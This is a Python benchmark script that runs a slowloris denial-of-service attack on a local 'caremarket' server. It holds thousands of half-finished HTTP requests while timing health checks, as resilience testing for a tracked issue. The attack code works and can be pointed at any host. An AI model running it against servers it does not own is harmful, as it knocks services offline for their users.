#!/usr/bin/env python3
"""Issue 17 item 3: hold N half-sent requests against a running caremarket (slowloris) and time
/healthz while they are held and after they stop.

Each attacking connection sends the start of a request and then one more header byte every few
seconds, never finishing; when the server closes it, it is opened again, so the attack keeps
N connections for the whole run. The attack comes from 127.0.0.2 (another host, as a real attacker
is) and /healthz from 127.0.0.1 (the monitoring host).

    ulimit -n 65536; python3 benchmarks/slowloris.py --port 8100 --connections 20000 --seconds 120 --pid <server pid>

Standard library only. Prints one line per probe and a summary.
"""
import argparse, asyncio, os, time


def rss_mib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return None


def fds(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


async def attacker(host, port, stop, stats):
    while not stop.is_set():
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=("127.0.0.2", 0)), 10)
        except (OSError, asyncio.TimeoutError):
            stats["connect_failures"] += 1
            await asyncio.sleep(1)
            continue
        stats["opened"] += 1
        stats["held"] += 1
        try:
            w.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
            await w.drain()
            while not stop.is_set():
                await asyncio.sleep(5)
                w.write(b"a")
                await w.drain()
                if r.at_eof():
                    break
        except (OSError, ConnectionError):
            pass
        finally:
            stats["held"] -= 1
            stats["closed_by_server"] += 0 if stop.is_set() else 1
            w.close()


async def healthz(host, port):
    start = time.monotonic()
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port), 60)
        w.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        await w.drain()
        data = await asyncio.wait_for(r.read(), 60)
        w.close()
        ok = data.startswith(b"HTTP/1.1 200")
    except (OSError, asyncio.TimeoutError):
        ok = False
    return ok, time.monotonic() - start


async def main():
    a = argparse.ArgumentParser()
    a.add_argument("--host", default="127.0.0.1")
    a.add_argument("--port", type=int, default=8100)
    a.add_argument("--connections", type=int, default=20000)
    a.add_argument("--seconds", type=int, default=120)
    a.add_argument("--pid", type=int)
    o = a.parse_args()
    stats = {"opened": 0, "held": 0, "closed_by_server": 0, "connect_failures": 0}
    stop = asyncio.Event()
    ok, t = await healthz(o.host, o.port)
    print(f"before: healthz ok={ok} in {t*1000:.0f} ms; server RSS {rss_mib(o.pid)} MiB, open files {fds(o.pid)}", flush=True)
    tasks = []
    for i in range(o.connections):
        tasks.append(asyncio.create_task(attacker(o.host, o.port, stop, stats)))
        if i % 500 == 499:
            await asyncio.sleep(0.05)
    began = time.monotonic()
    probes = []
    while time.monotonic() - began < o.seconds:
        await asyncio.sleep(5)
        ok, t = await healthz(o.host, o.port)
        probes.append((ok, t))
        print(f"t={time.monotonic()-began:5.0f}s attack holding {stats['held']:6d} (opened {stats['opened']}, closed by server {stats['closed_by_server']}, connect failures {stats['connect_failures']}); healthz ok={ok} in {t*1000:.0f} ms; server RSS {rss_mib(o.pid)} MiB, open files {fds(o.pid)}", flush=True)
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    await asyncio.sleep(2)
    ok, t = await healthz(o.host, o.port)
    print(f"after: healthz ok={ok} in {t*1000:.0f} ms; server RSS {rss_mib(o.pid)} MiB, open files {fds(o.pid)}", flush=True)
    oks = [t for ok, t in probes if ok]
    print(f"summary: {len(probes)} probes during the attack, {len(oks)} answered; slowest answered {max(oks)*1000 if oks else 0:.0f} ms; peak held {o.connections}")


asyncio.run(main())
